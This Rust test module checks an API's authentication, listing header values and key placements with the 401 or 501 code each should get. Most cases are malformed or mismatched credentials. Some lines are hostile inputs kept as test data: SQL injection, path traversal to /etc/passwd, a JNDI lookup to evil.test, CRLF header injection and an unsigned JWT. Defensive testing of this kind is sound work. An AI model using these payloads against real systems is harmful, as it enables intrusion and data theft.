//! What headers may say: the shapes of a credential, and of a key.

use auth::PlainKey;
use model::OsRandom;

use super::probe::{Ask, Wants};
use super::subject::Tokens;
use Wants::{Refused, Works};

/// The answer to what has the shape of no credential.
pub(super) const FORMAT: Wants = Refused(401, "INVALID_AUTH_FORMAT");
const ABSENT: Wants = Refused(401, "AUTH_REQUIRED");
const NO_KEY: Wants = Refused(401, "INVALID_API_KEY");
const NO_TOKEN: Wants = Refused(401, "INVALID_TOKEN");

/// `Authorization` values, `X-API-Key` values, what is expected. `KEY` works, `OTHER` is well
/// formed and unknown, `BROKEN` has a wrong checksum, `SHORT` lacks a digit.
#[rustfmt::skip]
const SHAPES: &[(&[&str], &[&str], Wants)] = &[
    (&[], &[], ABSENT),
    (&[""], &[], ABSENT),
    (&["Bearer"], &[], ABSENT),
    (&["Bearer "], &[], ABSENT),
    (&["bearer    "], &[], ABSENT),
    (&[], &[""], ABSENT),
    (&[""], &[""], ABSENT),
    (&["Bearer KEY"], &[], Works),
    (&["bearer KEY"], &[], Works),
    (&["BEARER KEY"], &[], Works),
    (&["bEaReR KEY"], &[], Works),
    (&["Bearer    KEY"], &[], Works),
    (&[], &["KEY"], Works),
    (&[""], &["KEY"], Works),
    (&["Bearer"], &["KEY"], Works),
    (&["Bearer KEY"], &["KEY"], Works),
    (&["Basic dTpw"], &["KEY"], Works),
    (&["Bearer KEY"], &["OTHER"], FORMAT),
    (&["Bearer OTHER"], &["KEY"], FORMAT),
    (&["Bearer KEY"], &["hello"], FORMAT),
    (&["Bearer KEY"], &[""], FORMAT),
    (&["Bearer KEY"], &["eyJa"], FORMAT),
    (&["Bearer eyJa"], &["KEY"], FORMAT),
    (&["Bearer hello"], &["KEY"], FORMAT),
    (&["Bearer BROKEN"], &["KEY"], FORMAT),
    (&["Basic dTpw"], &[], FORMAT),
    (&["Basic"], &[], FORMAT),
    (&["Basic dTpw"], &[""], FORMAT),
    (&["Basic dTpw"], &["hello"], FORMAT),
    (&["Digest username=\"a\""], &[], FORMAT),
    (&["Negotiate YII="], &[], FORMAT),
    (&["KEY"], &[], FORMAT),
    (&["BearerKEY"], &[], FORMAT),
    (&["Bearer:KEY"], &[], FORMAT),
    (&["Bearer=KEY"], &[], FORMAT),
    (&["Token KEY"], &[], FORMAT),
    (&["ApiKey KEY"], &[], FORMAT),
    (&["Bearer KEY", "Bearer KEY"], &[], FORMAT),
    (&["Bearer KEY", "Bearer OTHER"], &[], FORMAT),
    (&["Bearer OTHER", "Bearer KEY"], &[], FORMAT),
    (&["Bearer KEY", ""], &[], FORMAT),
    (&["", "Bearer KEY"], &[], FORMAT),
    (&["", ""], &["KEY"], FORMAT),
    (&["Basic dTpw", "Bearer KEY"], &[], FORMAT),
    (&[], &["KEY", "KEY"], FORMAT),
    (&[], &["", "KEY"], FORMAT),
    (&["Bearer KEY"], &["KEY", "KEY"], FORMAT),
    (&["Bearer KEY, Bearer KEY"], &[], FORMAT),
    (&["Bearer KEY,"], &[], FORMAT),
    (&[",Bearer KEY"], &[], FORMAT),
    (&[","], &["KEY"], FORMAT),
    (&["Basic a, Bearer KEY"], &["KEY"], FORMAT),
    (&[], &["KEY,KEY"], FORMAT),
    (&["Bearer\tKEY"], &[], FORMAT),
    (&["Bearer KEY\u{e9}"], &[], FORMAT),
    (&["Bearer \u{a0}KEY"], &[], FORMAT),
    (&["Bearer \u{200b}KEY"], &[], FORMAT),
    (&["Bearer eyJ\u{e9}"], &[], FORMAT),
    (&["\u{e9}"], &["KEY"], FORMAT),
    (&["Bearer hello"], &[], FORMAT),
    (&[], &["hello"], FORMAT),
    (&["Bearer null"], &[], FORMAT),
    (&["Bearer undefined"], &[], FORMAT),
    (&["Bearer [object Object]"], &[], FORMAT),
    (&["Bearer \"KEY\""], &[], FORMAT),
    (&["Bearer 'KEY'"], &[], FORMAT),
    (&["Bearer {KEY}"], &[], FORMAT),
    (&["Bearer ' OR '1'='1"], &[], FORMAT),
    (&["Bearer 1; DROP TABLE api_keys"], &[], FORMAT),
    (&["Bearer ../../etc/passwd"], &[], FORMAT),
    (&["Bearer ${jndi:ldap://evil.test/a}"], &[], FORMAT),
    (&["Bearer %0d%0aX-Admin:1"], &[], FORMAT),
    (&["Bearer Sigmic_00"], &[], FORMAT),
    (&["Bearer SIGMIC_00"], &[], FORMAT),
    (&["Bearer EYJa"], &[], FORMAT),
    (&["Bearer sigmi"], &[], FORMAT),
    (&["Bearer sigmic"], &[], FORMAT),
    (&["Bearer sk-ant-00"], &[], FORMAT),
    (&["Bearer OTHER"], &[], NO_KEY),
    (&[], &["OTHER"], NO_KEY),
    (&["Basic dTpw"], &["OTHER"], NO_KEY),
    (&["Bearer BROKEN"], &[], NO_KEY),
    (&[], &["BROKEN"], NO_KEY),
    (&["Bearer SHORT"], &[], NO_KEY),
    (&["Bearer KEY0"], &[], NO_KEY),
    (&["Bearer KEYKEY"], &[], NO_KEY),
    (&["Bearer KEY KEY"], &[], NO_KEY),
    (&["Bearer KEY OTHER"], &[], NO_KEY),
    (&["Bearer KEY%00"], &[], NO_KEY),
    (&["Bearer KEY%20"], &[], NO_KEY),
    (&["Bearer KEY;"], &[], NO_KEY),
    (&["Bearer KEY'"], &[], NO_KEY),
    (&["Bearer KEY' OR '1'='1"], &[], NO_KEY),
    (&["Bearer KEY--"], &[], NO_KEY),
    (&["Bearer KEY#"], &[], NO_KEY),
    (&["Bearer KEY.e.s"], &[], NO_KEY),
    (&["Bearer sigmic_"], &[], NO_KEY),
    (&["Bearer sigmic_*"], &[], NO_KEY),
    (&["Bearer sigmic_%"], &[], NO_KEY),
    (&["Bearer sigmic_' OR '1'='1"], &[], NO_KEY),
    (&["Bearer sigmic_' UNION SELECT hash FROM api_keys --"], &[], NO_KEY),
    (&["Bearer sigmic_00"], &[], NO_KEY),
    (&["Bearer eyJ"], &[], NO_TOKEN),
    (&["Bearer eyJ.eyJ.x"], &[], NO_TOKEN),
    (&["Bearer eyJhbGciOiJub25lIn0.e30."], &[], NO_TOKEN),
    (&[], &["eyJhbGciOiJub25lIn0.e30."], NO_TOKEN),
    (&["Basic dTpw"], &["eyJa"], NO_TOKEN),
];

/// Places that carry no credential.
const PLACES: &[(&str, &str)] = &[
    ("the query as api_key", "?api_key=KEY"),
    ("the query as access_token", "?access_token=KEY"),
    ("the query as token", "?token=KEY"),
    ("the query as Authorization", "?Authorization=Bearer%20KEY"),
    ("the query as x-api-key", "?x-api-key=KEY"),
];

/// Every case with a live key.
pub(super) fn cases(key: &str, tokens: Tokens) -> Vec<(String, Ask, Wants)> {
    let mut cases = shapes(key);
    if tokens == Tokens::SwitchedOff {
        let of_tokens = cases.iter_mut().filter(|(_, _, wants)| *wants == NO_TOKEN);
        of_tokens.for_each(|(_, _, wants)| *wants = Refused(501, "JWT_NOT_CONFIGURED"));
    }
    cases.extend(changed_keys(key));
    cases.extend(PLACES.iter().map(|(name, query)| {
        let target = format!("/api/v1/tasks{}", query.replace("KEY", key));
        let ask = Ask::to(reqwest::Method::GET, target);
        (format!("a key in {name}"), ask, ABSENT)
    }));
    for header in ["proxy-authorization", "x-authorization", "x-auth-token"] {
        let ask = Ask::tasks().header(header, format!("Bearer {key}"));
        cases.push((format!("a key in {header}"), ask, ABSENT));
    }
    let cookie = Ask::tasks().header("cookie", format!("token={key}; api_key={key}"));
    cases.push(("a key in a cookie".to_owned(), cookie, ABSENT));
    cases
}

fn shapes(key: &str) -> Vec<(String, Ask, Wants)> {
    let other = PlainKey::mint(&OsRandom);
    let fill = |value: &str| {
        value
            .replace("OTHER", other.expose_key())
            .replace("BROKEN", &with_other_end(key))
            .replace("SHORT", &key[..key.len() - 1])
            .replace("KEY", key)
    };
    let case = |(authorization, x_api_key, wants): &(&[&str], &[&str], Wants)| {
        let mut ask = Ask::tasks();
        for value in *authorization {
            ask = ask.header("authorization", fill(value));
        }
        for value in *x_api_key {
            ask = ask.header("x-api-key", fill(value));
        }
        let name = format!("Authorization {authorization:?}, X-API-Key {x_api_key:?}");
        (name, ask, *wants)
    };
    SHAPES.iter().map(case).collect()
}

/// The key with its last digit changed.
fn with_other_end(key: &str) -> String {
    let last = if key.ends_with('0') { "1" } else { "0" };
    format!("{}{last}", &key[..key.len() - 1])
}

/// The key with one digit changed, at every fourth place, and in other spellings.
fn changed_keys(key: &str) -> Vec<(String, Ask, Wants)> {
    let digits = "sigmic_".len();
    let mut cases: Vec<_> = (digits..key.len())
        .step_by(4)
        .map(|at| {
            let other = if key[at..].starts_with('a') { "b" } else { "a" };
            let changed = format!("{}{other}{}", &key[..at], &key[at + 1..]);
            let ask = Ask::tasks().bearer(&changed);
            (format!("another digit at {at}"), ask, NO_KEY)
        })
        .collect();
    let upper = format!("sigmic_{}", key[digits..].to_uppercase());
    cases.push((
        "upper-case digits".to_owned(),
        Ask::tasks().bearer(&upper),
        NO_KEY,
    ));
    let whole = Ask::tasks().bearer(&key.to_uppercase());
    cases.push(("upper case".to_owned(), whole, FORMAT));
    cases
}
